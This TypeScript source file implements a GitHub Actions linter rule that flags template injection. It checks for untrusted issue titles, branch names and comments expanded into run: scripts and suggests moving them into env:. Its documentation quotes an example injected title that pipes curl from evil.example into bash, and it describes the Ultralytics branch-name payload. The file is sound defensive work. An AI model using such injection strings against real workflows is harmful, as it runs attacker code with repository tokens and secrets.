import { jobHoldsCredentials } from '../analysis/credentials.ts';
import { describePrivileges, jobPrivileges } from '../analysis/privileges.ts';
import { PRIVILEGED_TEXT_EVENTS, UNPRIVILEGED_TEXT_EVENTS } from '../analysis/data/contexts.ts';
import { expressionTaints, injectionSinks, workflowInputTypes, type Taint } from '../analysis/injection.ts';
import { eventTrust, guardOfCondition, triggersReaching } from '../analysis/triggers.ts';
import type { Confidence, Severity } from '../findings/finding.ts';
import { severityRank } from '../findings/finding.ts';
import type { Job, Step, Workflow } from '../models/github/types.ts';
import { defineRule, type StepScope } from './rule.ts';
import type { FindingDraft } from '../findings/finding.ts';
import type { Expression } from '../models/github/expressions.ts';
import { injectionFixes } from '../fixes/injection.ts';

interface Verdict {
  severity: Severity;
  confidence: Confidence;
  taint: Taint;
  why: string;
}

export default defineRule({
  meta: {
    id: 'template-injection',
    summary: 'text an outsider controls (issue titles, branch names, comments) pasted into a script by `${{ }}`',
    severity: 'high',
    confidence: 'high',
    docs: {
      why: `GitHub expands \`\${{ … }}\` in \`run:\` (and in inputs such as \`actions/github-script\`'s \`script:\`)
*before* the shell or interpreter sees the text, so the value becomes part of the program. An issue title
\`a"; curl -sSfL https://evil.example/x | bash; echo "\` ends the string and runs the attacker's
command, with everything the job holds: the \`GITHUB_TOKEN\`, secrets in its environment, and with
\`id-token: write\` the ability to mint an OIDC token and exchange it at PyPI for an upload token.
Branch names are free text too: the Ultralytics release pipeline was taken over in December 2024
through a pull request from a branch named \`$({curl,-sSfL,…}\${IFS}|\${IFS}bash)\`, expanded into
\`git pull origin \${{ github.head_ref || github.ref }}\` under \`pull_request_target\`.

Severity follows who can write the text and what the job holds:

- **high** for free text (titles, bodies, comments, branch names, commit messages) in workflows that
  anyone can start and that run with the base repository's token and secrets: \`pull_request_target\`,
  \`issue_comment\`, \`issues\`, \`discussion*\`, \`workflow_run\`, \`commit_comment\`; **critical**
  when the job also reads secrets or can mint OIDC tokens. Free text in a reusable workflow or a
  composite action is high too (medium confidence): it runs under its caller's event;
- **medium** under \`pull_request\` and \`pull_request_review*\` (fork pull requests get no secrets and
  a read-only token, but the injected command still runs and can, for example, poison caches), under
  \`push\` (commit messages and authors of merged pull requests) and for \`string\` inputs of
  \`workflow_dispatch\`/\`workflow_call\` (set by whoever has write access, or by the caller);
- **low** for inputs of a composite action (its callers decide what flows in).

Not reported, because they cannot carry text: SHAs and ids (\`github.sha\`,
\`github.event.pull_request.head.sha\`), numbers, timestamps, \`needs.*.result\`, \`steps.*.outcome\`,
\`job.status\`, \`runner.os\`, logins and repository names (GitHub restricts their characters), boolean,
number and choice inputs, and expressions that only yield literals (\`\${{ inputs.x && '--x' || '' }}\`).
\`env.*\` is followed to the env block that sets it, and \`steps.<id>.outputs.<name>\` to a \`run:\` step of
the same job that writes \`<name>=\${{ … }}\` to \`$GITHUB_OUTPUT\`; outputs of actions and other jobs
are not followed and not reported. A job or step \`if:\` that admits only same-repository pull
requests, or comments from owners, members and collaborators, is taken into account.`,
      example: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue: \${{ github.event.issue.title }}"`,
      fix: `Pass the value through the environment, where the shell treats it as data, and quote it:

\`\`\`yaml
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: |
          echo "New issue: $TITLE"
\`\`\`

In \`actions/github-script\`, read \`context.payload.issue.title\` instead of expanding it into the script.`,
      references: [
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
        'https://git-scm.com/docs/git-check-ref-format',
        'https://blog.pypi.org/posts/2024-12-11-ultralytics-attack-analysis/',
      ],
    },
  },

  step(step, scope, context) {
    const sinks = injectionSinks(step);
    if (!sinks.length) return;
    const job = scope.kind === 'job' ? scope.job : undefined;
    const workflow = scope.kind === 'job' ? scope.workflow : undefined;
    const inputTypes = workflow ? workflowInputTypes(workflow) : undefined;
    const occurrences = new Map<string, number>();
    // One fix per step moves every reported expression of its script into `env:` at once.
    const drafts: Array<{ draft: FindingDraft; expression: Expression }> = [];
    const moved: Expression[] = [];
    for (const sink of sinks) {
      for (const expression of sink.expressions) {
        const taints = expressionTaints(expression, { step, job, workflow });
        let worst: Verdict | undefined;
        for (const taint of taints) {
          const verdict = judge(taint, step, scope, inputTypes);
          if (verdict && (!worst || severityRank(verdict.severity) > severityRank(worst.severity))) worst = verdict;
        }
        if (!worst) continue;
        const path = worst.taint.ref.path;
        const keyBase = `${step.route.join('/')}/${path}`;
        const n = (occurrences.get(keyBase) ?? 0) + 1;
        occurrences.set(keyBase, n);
        const through = worst.taint.via.length ? ` (through ${worst.taint.via.map((name) => `\`${name}\``).join(' → ')})` : '';
        if (sink.label === '`run:`') moved.push(expression);
        drafts.push({
          expression,
          draft: {
            message: `\`\${{ ${expression.text} }}\` is pasted into ${sink.label}: \`${path}\`${through} ${worst.why}. Pass it through \`env:\` and use the variable instead`,
            span: expression.span,
            severity: worst.severity,
            confidence: worst.confidence,
            key: `${keyBase}#${n}`,
          },
        });
      }
    }
    const yaml = scope.kind === 'job' ? scope.workflow.yaml : scope.action.yaml;
    const fixes = moved.length ? injectionFixes(step, moved, yaml, job, workflow) : undefined;
    for (const { draft, expression } of drafts) {
      const fix = fixes?.get(expression);
      context.report(fix ? { ...draft, fix } : draft);
    }
  },
});

function judge(taint: Taint, step: Step, scope: StepScope, inputTypes: Map<string, string> | undefined): Verdict | null {
  const kind = taint.class;
  if (kind.kind === 'caller-input') {
    if (scope.kind === 'action') {
      return { severity: 'low', confidence: 'medium', taint, why: 'is an input of this composite action; whoever calls it decides what goes in, and a caller passing a pull request title or branch name turns it into an injection' };
    }
    if (taint.ref.path.startsWith('github.event.client_payload')) {
      return { severity: 'medium', confidence: 'medium', taint, why: 'comes from a `repository_dispatch` payload, which anyone holding a token with write access can send' };
    }
    const workflow = scope.workflow;
    const dispatchable = workflow.triggers.some((trigger) => trigger.event === 'workflow_dispatch' || trigger.event === 'workflow_call');
    if (!dispatchable) return null;
    // GitHub refuses inputs a workflow does not declare, so an undeclared one is always empty.
    const type = kind.name === '*' ? 'string' : inputTypes?.get((kind.name ?? '').toLowerCase());
    if (type !== 'string') return null;
    const called = workflow.triggers.some((trigger) => trigger.event === 'workflow_call');
    return {
      severity: 'medium',
      confidence: 'medium',
      taint,
      why: called
        ? 'is a string input, set by whoever dispatches the workflow (write access) or by the calling workflow, which may pass text from a pull request or issue'
        : 'is a string input, set by whoever dispatches the workflow (write access is required, but the text still becomes code)',
    };
  }
  if (kind.kind !== 'free-text' || !kind.freeText) return null;
  const entry = kind.freeText;
  if (scope.kind === 'action') {
    return { severity: 'high', confidence: 'medium', taint, why: `is written by ${entry.author}; this composite action runs under whatever event its caller has, including \`pull_request_target\` and \`issue_comment\`` };
  }
  const { workflow, job } = scope;
  const reaching = triggersReaching(workflow, job, step).map((trigger) => trigger.event);
  if (reaching.includes('workflow_call')) {
    return { severity: 'high', confidence: 'medium', taint, why: `is written by ${entry.author}; a reusable workflow runs under its caller's event, which can be \`pull_request_target\` or \`issue_comment\`` };
  }
  const relevant = reaching.filter((event) => !entry.events.length || entry.events.includes(event));
  let best: Verdict | null = null;
  const commentField = /^github\.event\.(comment|review|review_comment)\./.test(entry.pattern);
  for (const event of relevant) {
    const trust = eventTrust(event, job.if?.value, step.if?.value);
    if (trust === 'trusted') continue;
    if (trust === 'approved' && commentField && [guardOfCondition(job.if?.value), guardOfCondition(step.if?.value)].some((guard) => guard.trustedActorOnly)) continue;
    const verdict = judgeEvent(event, entry.author, job, workflow, taint);
    if (!best || severityRank(verdict.severity) > severityRank(best.severity)) best = verdict;
  }
  return best;
}

function judgeEvent(event: string, author: string, job: Job, workflow: Workflow, taint: Taint): Verdict {
  if (PRIVILEGED_TEXT_EVENTS.has(event)) {
    const holds = jobHoldsCredentials(job, workflow);
    const held = holds ? describePrivileges(jobPrivileges(job, workflow), { includeToken: false }) : '';
    return {
      severity: holds ? 'critical' : 'high',
      confidence: 'high',
      taint,
      why: `is written by ${author} and this job runs on \`${event}\` with the base repository's token${held ? ` and ${held}` : ''}`,
    };
  }
  if (UNPRIVILEGED_TEXT_EVENTS.has(event)) {
    return { severity: 'medium', confidence: 'high', taint, why: `is written by ${author}; on \`${event}\` fork pull requests get no secrets, but the injected command still runs in the job` };
  }
  return { severity: 'medium', confidence: 'medium', taint, why: `is written by ${author} (on \`${event}\`)` };
}
